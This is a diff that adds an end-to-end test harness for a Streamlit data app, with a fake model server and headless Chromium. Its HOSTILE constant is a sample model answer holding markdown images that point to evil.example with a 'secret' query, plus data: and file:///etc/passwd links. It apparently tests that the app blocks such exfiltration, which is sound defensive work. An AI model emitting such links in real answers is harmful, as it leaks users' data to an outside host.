@@ -1,0 +1,199 @@
+"""The app as a person meets it: a process of its own, a model server on loopback, headless Chromium."""
+
+from __future__ import annotations
+
+import os
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from urllib.request import urlopen
+
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright
+
+from tests.messages_server import Failure, Json, MessagesServer, Turn
+
+ROOT = Path(__file__).resolve().parents[2]
+CHROMIUM_FLAGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
+PATIENCE = 20_000
+"""Milliseconds to wait for something to appear on a busy machine; nothing is measured by it."""
+
+expect.set_options(timeout=PATIENCE)
+
+
+class App:
+    """`streamlit run app.py` over a data folder, on a free port."""
+
+    def __init__(self, home: Path, model_url: str = "") -> None:
+        self.home = home
+        self.model_url = model_url
+        self.url = ""
+        self._process: subprocess.Popen[bytes] | None = None
+
+    def start(self) -> App:
+        port = _free_port()
+        self.url = f"http://127.0.0.1:{port}"
+        clean = {k: v for k, v in os.environ.items() if not k.startswith(("ANTHROPIC_", "LEAF_", "STREAMLIT_"))}
+        model = {"LEAF_MODEL_URL": self.model_url, "ANTHROPIC_API_KEY": "test-key"} if self.model_url else {}
+        self._process = subprocess.Popen(
+            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
+            cwd=ROOT,
+            env={**clean, **model, "LEAF_HOME": str(self.home)},
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )
+        _wait_until_healthy(self.url, self._process)
+        return self
+
+    def stop(self, how: signal.Signals = signal.SIGTERM) -> None:
+        if self._process is not None:
+            self._process.send_signal(how)
+            try:
+                self._process.wait(15)
+            except subprocess.TimeoutExpired:
+                self._process.kill()
+                self._process.wait(15)
+            self._process = None
+
+
+def _free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def _wait_until_healthy(url: str, process: subprocess.Popen[bytes]) -> None:
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        if process.poll() is not None:
+            raise RuntimeError(f"the app ended with code {process.returncode}")
+        try:
+            with urlopen(f"{url}/_stcore/health", timeout=1) as answer:
+                if answer.status == 200:
+                    return
+        except OSError:
+            time.sleep(0.1)
+    raise RuntimeError("the app did not start")
+
+
+LONG = "\n\n".join(f"Paragraph {i} of a long answer that takes its time." for i in range(1, 41))
+HOSTILE = """Here is **what I found**.
+
+![picture](https://evil.example/?d=secret) ![](https://evil.example/b.png) !![twice](https://evil.example/c.png)
+
+![by reference][ref] <img src="https://evil.example/d.png"> [data](data:text/html,<b>x</b>) [file](file:///etc/passwd)
+
+| a |
+|---|
+| ![cell](https://evil.example/e.png) |
+
+[ref]: https://evil.example/f.png
+"""
+
+
+def brain(body: Json) -> Turn | Failure:
+    """What the model of these tests answers, by the words of the newest question."""
+    question, results = _newest_question(body)
+    if "long" in question:
+        return Turn.say(LONG, pieces=120, delay=0.06)
+    if "hostile" in question:
+        return Turn.say(HOSTILE) if results else Turn.call(("read_file", {"file": "f1"}))
+    if "refuse" in question:
+        return Failure.unauthorized()
+    if "total" in question and not results:
+        return Turn.call(
+            ("query_tables", {"sql": "SELECT region, sum(revenue) AS revenue FROM sales GROUP BY region ORDER BY 2 DESC"}),
+            thinking="Sum the revenue by region.",
+        )
+    if "total" in question:
+        return Turn.say("The **North** leads with 300.\n\n```sql\nSELECT 1\n```\n\nThat is all.")
+    return Turn.say(f"You asked: {question}")
+
+
+def _newest_question(body: Json) -> tuple[str, bool]:
+    """The words of the newest question, and whether tools have answered since."""
+    results = False
+    for message in reversed(body["messages"]):
+        blocks = message["content"] if isinstance(message["content"], list) else [{"type": "text", "text": message["content"]}]
+        if message["role"] != "user":
+            continue
+        if any(block["type"] == "tool_result" for block in blocks):
+            results = True
+            continue
+        words = [line for block in blocks if block["type"] == "text" for line in block["text"].splitlines()]
+        return "\n".join(line for line in words if not re.match(r"\[Attached", line)).strip(), results
+    return "", results
+
+
+@pytest.fixture(scope="session")
+def model_server() -> Iterator[MessagesServer]:
+    with MessagesServer(brain) as server:
+        yield server
+
+
+@pytest.fixture(scope="session")
+def app(model_server: MessagesServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
+    """One running app for the journeys that leave each other alone."""
+    running = App(tmp_path_factory.mktemp("home"), model_server.url).start()
+    yield running
+    running.stop()
+
+
+@pytest.fixture
+def new_app(tmp_path: Path) -> Iterator[Callable[..., App]]:
+    """Starts further apps: `new_app(home, model_url)`."""
+    started: list[App] = []
+
+    def start(home: Path | None = None, model_url: str = "") -> App:
+        started.append(App(home or tmp_path / "home", model_url).start())
+        return started[-1]
+
+    yield start
+    for running in started:
+        running.stop()
+
+
+@pytest.fixture(scope="session")
+def browser() -> Iterator[Browser]:
+    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
+    if chromium is None:
+        pytest.skip("chromium is not installed")
+    with sync_playwright() as playwright:
+        running = playwright.chromium.launch(executable_path=chromium, args=CHROMIUM_FLAGS)
+        yield running
+        running.close()
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    opened = browser.new_context(viewport={"width": 1280, "height": 900})
+    opened.set_default_timeout(PATIENCE)
+    yield opened
+    opened.close()
+
+
+@pytest.fixture
+def page(context: BrowserContext) -> Page:
+    return context.new_page()
+
+
+@pytest.fixture
+def sales(tmp_path: Path) -> Path:
+    """A small table whose sums are known: North 300, South 120."""
+    path = tmp_path / "sales.csv"
+    path.write_text("region,revenue\nNorth,100\nSouth,120\nNorth,200\n")
+    return path
